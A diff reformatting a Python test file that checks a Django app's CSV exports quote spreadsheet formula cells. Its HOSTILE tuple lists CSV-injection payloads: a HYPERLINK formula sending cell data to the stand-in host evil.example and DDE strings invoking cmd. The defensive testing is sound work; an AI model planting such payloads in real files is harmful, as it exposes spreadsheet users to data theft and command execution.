@@ -13,7 +13,11 @@ from django.core.management import call_command
 from arena.csvcells import csv_cell, csv_write
 from tests.factories import build_arena, human_votes, imported_verdicts
 
-HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+)
 
 
 @pytest.mark.parametrize("cell", ["=1+1", "+1+1", "-1+1", "@A1", "\tcmd", "\r=1", "-cmd", "+", "="])
@@ -21,7 +25,9 @@ def test_a_text_cell_a_spreadsheet_would_run_is_quoted(cell):
     assert csv_cell(cell) == "'" + cell
 
 
-@pytest.mark.parametrize("cell", [-0.5, -12, 3.25, 0, None, True, "-0.5", "+3", "-1e-3", "1e5", "gpt-4", "a=b", ""])
+@pytest.mark.parametrize(
+    "cell", [-0.5, -12, 3.25, 0, None, True, "-0.5", "+3", "-1e-3", "1e5", "gpt-4", "a=b", ""]
+)
 def test_numbers_and_ordinary_text_are_left_alone(cell):
     assert csv_cell(cell) == cell
 
@@ -29,8 +35,11 @@ def test_numbers_and_ordinary_text_are_left_alone(cell):
 def test_the_writer_quotes_header_and_cells_and_round_trips_the_rest():
     out = io.StringIO()
     csv_write(out, ["model", "=rating"], [["=cmd", -1.5], ["gpt-4", 1000]])
-    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["model", "'=rating"], ["'=cmd", "-1.5"],
-                                                            ["gpt-4", "1000"]]
+    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
+        ["model", "'=rating"],
+        ["'=cmd", "-1.5"],
+        ["gpt-4", "1000"],
+    ]
 
 
 @pytest.fixture
@@ -65,8 +74,11 @@ def test_every_api_csv_export_neutralises_formula_cells(client, hostile_arena):
     assert negative and all(float(value) < 0 for value in negative)  # negative numbers stay numbers
     _assert_no_formula(bias)
 
-    agreement = _rows(client.get("/api/agreement/", {"a": "human", "b": "import:paper-gpt4",
-                                                     "format": "csv"}).content.decode())
+    agreement = _rows(
+        client.get(
+            "/api/agreement/", {"a": "human", "b": "import:paper-gpt4", "format": "csv"}
+        ).content.decode()
+    )
     assert len(agreement) > 1
     _assert_no_formula(agreement)
 
